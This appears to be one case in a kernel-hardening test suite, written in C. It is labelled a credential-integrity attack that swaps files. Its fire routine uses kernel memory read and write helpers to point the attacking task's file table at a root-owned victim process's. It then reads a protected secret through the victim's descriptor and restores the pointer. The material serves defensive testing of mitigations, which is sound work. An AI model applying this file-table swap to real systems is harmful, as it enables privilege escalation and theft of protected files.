// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "swap_files", "LOST",
       "The program makes its task point to the descriptors of a program of root.",
       "Which descriptors are the running program's is said by its seal, which the stack "
       "decides.",
       "Every file that root's program has open is its own.");

#define VICTIM_FILE 5

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	const uint64_t task = own_task(), files = member("task.files");
	const uint64_t before = peek(task + files);
	char bytes[sizeof(SECRET) - 1] = { 0 };

	poke(task + files, peek(victim_task(task) + files));
	call4(__NR_pread64, VICTIM_FILE, (long)bytes, sizeof(bytes), 0);
	poke(task + files, before);
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

static void victim(void)
{
	call2(__NR_dup2, call3(__NR_open, (long)PRIZE, O_RDONLY, 0), VICTIM_FILE);
	victim_waits();
}
